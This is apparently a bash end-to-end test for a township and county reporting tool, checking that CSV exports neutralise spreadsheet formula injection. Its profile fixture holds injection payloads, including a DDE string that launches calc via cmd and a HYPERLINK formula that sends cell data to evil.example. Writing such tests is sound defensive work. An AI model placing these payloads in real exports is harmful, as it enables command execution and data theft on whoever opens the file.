#!/usr/bin/env bash
# CSV formula injection (SECURITY.md finding 7), end to end: a township's
# profile names its head, offices, itself and a village with texts a
# spreadsheet would run as formulas (=HYPERLINK(...), +1, -2+3, @SUM(...)).
# The real aggregator keeps them and feeds them to the real county reporter
# (CURVE); then the township's and the county's CSV reports are parsed with
# Python's csv module: every text cell that began with = + - @ now begins
# with an apostrophe and otherwise reads as the profile wrote it, and the
# figures (numbers) are bare numbers, unchanged.
source "$(dirname "$0")/lib.sh"
TOWN=420102001
VILLAGE=420102001201
AGG_EP="ipc://$T/agg.sock"; CTY_EP="ipc://$T/county.sock"
setup_keys $TOWN $VILLAGE || bad "keys"

cat >"$T/profile.ini" <<'INI'
[township]
name = @SUM(1+1)*cmd|' /C calc'!A0
head = =HYPERLINK("http://evil.example/?d="&A1,"点击")
enforcement_head = +1
market_office = -2+3
market_director = 王芳
office_staff = 5

[villages]
420102001201 = =1+1
INI

start reporter "$BIN/shibao-reporter" serve --db "$T/county.db" --listen "$CTY_EP" $(reporter_sec)
start aggregator "$BIN/shibao-aggregator" --db "$T/town.db" --township $TOWN --listen "$AGG_EP" \
    --upstream "$CTY_EP" --profile "$T/profile.ini" $(aggregator_sec)
echo '{"occurredOn":"2022-03-04","publicity":{"kind":"PUBLICITY_KIND_MATERIALS","participants":12,"copies":250}}' >"$T/day.jsonl"
"$BIN/shibao-collector" submit --outbox "$T/v.db" --village $VILLAGE "$T/day.jsonl" >/dev/null
start collector "$BIN/shibao-collector" run --outbox "$T/v.db" --village $VILLAGE --connect "$AGG_EP" \
    $(collector_sec $VILLAGE)
check "the event is delivered" wait_until 30 all_delivered "$T/v.db"
check "the county acknowledged the feed" wait_until 30 feed_drained "$T/town.db"
# the profile reaches the county with the feed
county_named() { "$BIN/shibao-reporter" report --db "$T/county.db" --period 2022H1 --county --format json 2>/dev/null |
                 jq -e '.townships[0].name | startswith("@SUM")' >/dev/null; }
check "the county knows the township's name" wait_until 30 county_named

"$BIN/shibao-reporter" report --db "$T/town.db" --period 2022H1 --format csv -o "$T/town.csv"
"$BIN/shibao-reporter" report --db "$T/county.db" --period 2022H1 --county --format csv -o "$T/county.csv"

# csv_check FILE SPEC...: parses FILE (python3 csv) and checks each SPEC
# "ROWKEY|COLUMN|EXPECTED" (ROWKEY: the third cell of the row, or for the
# village rows their code in the first; COLUMN counted from 0); then that no
# cell anywhere begins with = + - @ (a formula).
csv_check() {
    python3 - "$@" <<'PY'
import csv, sys
path, specs = sys.argv[1], sys.argv[2:]
with open(path, encoding="utf-8-sig", newline="") as f:
    rows = list(csv.reader(f))
bad = 0
def row_of(key):
    for r in rows:
        if (len(r) > 2 and r[2] == key) or (r and r[0] == key):
            return r
    return None
for spec in specs:
    key, col, want = spec.split("|", 2)
    r = row_of(key)
    got = r[int(col)] if r and len(r) > int(col) else None
    print(("ok   " if got == want else "FAIL ") + f"- {path.rsplit('/', 1)[-1]} row {key} column {col}: {got!r} (want {want!r})")
    bad += got != want
for r in rows:
    for c in r:
        if c[:1] in ("=", "+", "-", "@"):
            print(f"FAIL - a cell begins as a formula: {c!r}")
            bad += 1
sys.exit(1 if bad else 0)
PY
}
HEAD="'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击\")"
NAME="'@SUM(1+1)*cmd|' /C calc'!A0"
check "township CSV: texts neutralised, numbers bare" csv_check "$T/town.csv" \
    "township_head|3|$HEAD" "enforcement_head|3|'+1" "market_office|3|'-2+3" \
    "market_director|3|王芳" "office_staff|3|5" "materials_copies|3|250" "study_sessions|3|0" \
    "market_office_joined|3|'-2+3" "villages_reporting|3|1" \
    "$VILLAGE|1|'=1+1" "$VILLAGE|3|1" "$VILLAGE|6|2022-03" "$VILLAGE|13|250"
check "county CSV: every township's texts neutralised, numbers bare" csv_check "$T/county.csv" \
    "township_head|3|$HEAD" "enforcement_head|3|'+1" "market_office|3|'-2+3" \
    "market_director|3|王芳" "office_staff|3|5" "materials_copies|3|250" "materials_copies|4|250" \
    "键|3|'@SUM(1+1)*cmd|' /C calc'!A0（$TOWN）"
# On the wire: a neutralised cell is quoted, a number is not.
check "the head's cell is quoted with its apostrophe" grep -qF ",\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"点击\"\")\"" "$T/town.csv"
check "figure 23 is a bare number" grep -q $'^23,[^,]*,materials_copies,250\r$' "$T/town.csv"
finish
